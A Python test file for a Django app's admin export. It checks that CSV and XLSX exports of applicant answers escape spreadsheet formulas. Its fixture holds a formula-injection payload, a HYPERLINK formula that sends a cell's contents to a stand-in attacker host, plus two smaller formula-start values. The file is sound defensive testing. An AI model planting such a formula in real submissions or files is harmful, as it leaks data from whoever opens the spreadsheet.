"""Issue 12, defect 4: what applicants type reaches a spreadsheet as text, never as a
formula."""

import csv
import io

import openpyxl
import pytest

from programs.models import Question
from tests.factories import submit

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.fixture
def hostile(cohort):
    goal = Question.objects.create(program=cohort.program, kind="text", text_sv="Mål")
    submit(cohort, email="attacker@example.org", answers={goal.pk: ATTACK})
    submit(cohort, email="second@example.org", answers={goal.pk: "==1+1"})
    submit(cohort, email="third@example.org", answers={goal.pk: "@SUM(A1:A9)"})
    return goal


def test_spreadsheet_formulas_csv_export_escapes_every_formula_start(
    client, cohort, coordinator, hostile
):
    client.force_login(coordinator)

    response = client.post("/admin/programs/application/export/", {"format": "0"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    answers = sorted(row["Mål"] for row in rows)

    assert answers == sorted([f"'{ATTACK}", "'==1+1", "'@SUM(A1:A9)"])


def test_spreadsheet_formulas_xlsx_export_holds_text_not_formulas(
    client, cohort, coordinator, hostile
):
    client.force_login(coordinator)

    response = client.post("/admin/programs/application/export/", {"format": "1"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]

    assert not [c.value for c in cells if c.data_type == "f"]  # no live formula at all
    assert f"'{ATTACK}" in [c.value for c in cells]
